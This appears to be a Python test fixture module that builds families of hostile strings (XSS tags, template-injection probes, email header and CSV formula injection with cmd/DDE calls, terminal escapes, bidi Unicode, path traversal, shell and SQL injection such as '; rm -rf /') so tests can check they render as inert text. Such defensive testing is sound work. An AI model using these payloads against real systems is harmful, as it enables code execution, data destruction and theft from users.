"""Hostile strings by family: what people and programs type to break what reads it afterwards.

Made deterministically: a few carriers a family, combined with what would betray that they ran. All
of them are ordinary text to us, and must come out as text.
"""

# ruff: noqa: E501, Q003, RUF005 - strings stand side by side, each quoted as it reads best

from __future__ import annotations

import itertools

CALL = "window.hostile=1"
"""What a script does if it ever runs: tests look for the trace."""

_ELEMENTS = (
    "<script>{}</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>", "<body onload={}>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}>", "<math><mi xlink:href=javascript:{}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action=javascript:{}><button>",
    "<a href=javascript:{}>x</a>", "<template><script>{}</script></template>", "<marquee onstart={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<plaintext>", "<xmp>", "<!--", "-->", "<![CDATA[",
    "<?xml version='1.0'?>",
)  # fmt: skip
_BREAKERS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "--><!-- ", "]]>")

HTML = tuple(
    before + element.format(CALL) for before, element in itertools.product(_BREAKERS[:4], _ELEMENTS)
)
BREAKERS = tuple(before + _ELEMENTS[2].format(CALL) for before in _BREAKERS[4:])

MARKDOWN = (
    f"[x](javascript:{CALL})", f"[x](  JaVaScRiPt:{CALL}  )", f"![x](javascript:{CALL})", "![x](https://evil.example/p.png)",
    f"[x]: javascript:{CALL}\n\n[x]", f"<javascript:{CALL}>", "<https://evil.example>", "[x][y]\n\n[y]: https://evil.example",
    "```\n</code><script>", "~~~html\n<b>", "    <script>", "| a | b |\n|---|---|", "# heading\n===", "---", "***", "* item\n* item",
    "> quote", "1. one", "`code`", "\\`<b>", "&lt;script&gt;", "&#106;avascript:", "{: onclick=x }", "{ #id .class onclick='x' }",
    "*[HTML]: x", "[^1]\n\n[^1]: note", "!!! note\n    x", "<div markdown=1>", "a\\\n<b>b</b>", "[TOC]", "\\[x\\](y)", "_em_ **b**",
)  # fmt: skip

TEMPLATE = (
    "{{ 7 * 7 }}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for i in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}", "{{ role.__init__.__globals__ }}", "{% import os %}", "{# comment", "{{", "{%", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}", "%(name)s", "{0.__class__}", "{name!r}", "{:>999999999}",
    "%s%s%n", "{{ role | attr('x') }}", "{% set x = 1 %}", "{% raw %}", "{{ namespace() }}", "[[cog", "[[[end]]]",
)  # fmt: skip

_LINE_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\x85",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    "\x1c",
    "%0d%0a",
    "\\r\\n",
    "=0D=0A",
)
HEADERS = tuple(
    f"Example{end}{header}"
    for end, header in itertools.product(
        _LINE_ENDS, ("Bcc: victim@example.net", "Content-Type: text/html\r\n\r\n<script>x</script>")
    )
) + (
    "=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5uZXQ=?=", "=?utf-8?q?=0D=0ABcc:_a=40b.example?=", "a@b.example, c@d.example",
    "a@b.example>\r\nBcc: <c@d.example", "\"a\" <x@y.example>", "a@b.example?bcc=c@d.example&body=x", "a@b.example%0ABcc:c",
    "x@y.example;z@w.example", "@", "a@", "@b", "a b@c.example", "mailto:a@b.example", "<a@b.example>", "--boundary--", "\r\n.\r\n",
    "From nobody", ".", "undisclosed-recipients:;",
)  # fmt: skip

CALENDAR = (
    "END:VEVENT", "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:y", "x\r\nATTACH:https://evil.example", "x\r\n ATTENDEE:mailto:a@b.example",
    "x\\nEND:VCALENDAR", "x\\", "x\\\\", "a;b,c:d", "\"quoted\";X=1:y", "BEGIN:VALARM\nACTION:PROCEDURE", "X" * 74 + "é" * 40,
    "é" * 37 + ":" + "文" * 30, "\\;\\,\\N\\n", ";VALUE=URI:https://evil.example", "RRULE:FREQ=SECONDLY",
)  # fmt: skip

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "\t=1+1", "\r=1+1",
    "\n=1+1", "=WEBSERVICE(\"https://evil.example\")", "-2+3+cmd|' /C calc'!A0", "+A1", "@A1", "\"=1+1\"", "'=1+1", "=1+1\",\"=2",
    "=1;=2", "a,b\n=1+1,c", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1", "－1", "＠A1",  # noqa: RUF001 - wide ones too
)  # fmt: skip

TERMINAL = (
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b]52;c;YQ==\x07",
    "\x1bP+q544e\x1b\\", "\x9b31m", "\x90x\x9c", "\x07", "\x08\x08\x08", "\x7f", "a\rb", "\x0e\x0f", "\x1b[6n", "\x1b[?1049h", "\x00x",
    "\x1a", "\x04", "\x1bc", "\u009d0;x\u009c",
)  # fmt: skip

UNICODE = (
    "\u202etxt.exe", "\u202dabc", "\u2066x\u2069", "\u2067x", "\u061cx", "\u200fx", "\u200b", "a\u200bb", "\u200d", "\ufeffx", "\u00ad",
    "\u2060x", "\u180e", "\ufff9x\ufffa\ufffb", "\U000e0041\U000e0042", "e" + "\u0301" * 60, "Z" + "\u0489" * 30, "\U0001f468\u200d\U0001f469",
    "\ufdfd", "İstanbul", "ﬃ", "ſcript", "＜script＞", "＂", "\u1160", "\u3164", "\ufffd", "\uffff", "\U0010ffff", "\u0000", "ẞ",  # noqa: RUF001
)  # fmt: skip

PATHS = (
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "a/b", "a\x00.txt", "CON", "nul.txt", "...", "~root", "$HOME", "`id`",
    "$(id)", "; rm -rf /", "| cat", "&& id", "%2e%2e%2f", "file:///etc/passwd", "\\\\evil\\share", "-rf", "--help", "'; DROP TABLE x; --",
)  # fmt: skip

URLS = (
    f"javascript:{CALL}", f"JAVASCRIPT:{CALL}", f"java\nscript:{CALL}", f"java\tscript:{CALL}", f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>", "vbscript:x", "https://evil.example/\"onclick=x", "//evil.example", "https://a@evil.example",
    "https://evil.example\\@a.example", f"view-source:javascript:{CALL}", "blob:https://evil.example/x", "https://[::1", "http://%zz",
    "https://example.org/#<script>", "https://xn--e1awd7f.example", "feed:javascript:x", "ms-excel:ofe|u|https://evil.example", "tel:*#06#",
)  # fmt: skip

DATA = (
    '"}', '{"a":', "\\u0000", '","admin":true,"', "__proto__", "constructor", "toString", "!!python/object:os.system", "!ruby/object:x",
    "- a: b", "a: b\nc: d", "&a *a", "%YAML 1.2", "...\n---", "y", "NaN", "Infinity", "null", "true", "1e999", "0x1F", "undefined", "None",
    "[object Object]", "&check=00000000", "&sent=thank_you:2026-01-01", "#v=1", "%", "%u0041", "+", "a=b&c=d", "\"\"\"", "'''", "\\",
)  # fmt: skip

LONG = ("a" * 10_000, "<b>" * 3000, "a b " * 2500, "\n" * 9000 + "x", "文" * 10_000, "(" * 9999, "[" * 5000 + "]" * 5000,
        "> " * 4000, "é" * 9999, "=?" * 4000, "\\" * 9999, "x@" * 4000 + "y.example")  # fmt: skip

FAMILIES: dict[str, tuple[str, ...]] = {
    "html": HTML,
    "breakers": BREAKERS,
    "markdown": MARKDOWN,
    "template": TEMPLATE,
    "headers": HEADERS,
    "calendar": CALENDAR,
    "formulas": FORMULAS,
    "terminal": TERMINAL,
    "unicode": UNICODE,
    "paths": PATHS,
    "urls": URLS,
    "data": DATA,
    "long": LONG,
}
STRINGS = tuple(dict.fromkeys(itertools.chain.from_iterable(FAMILIES.values())))
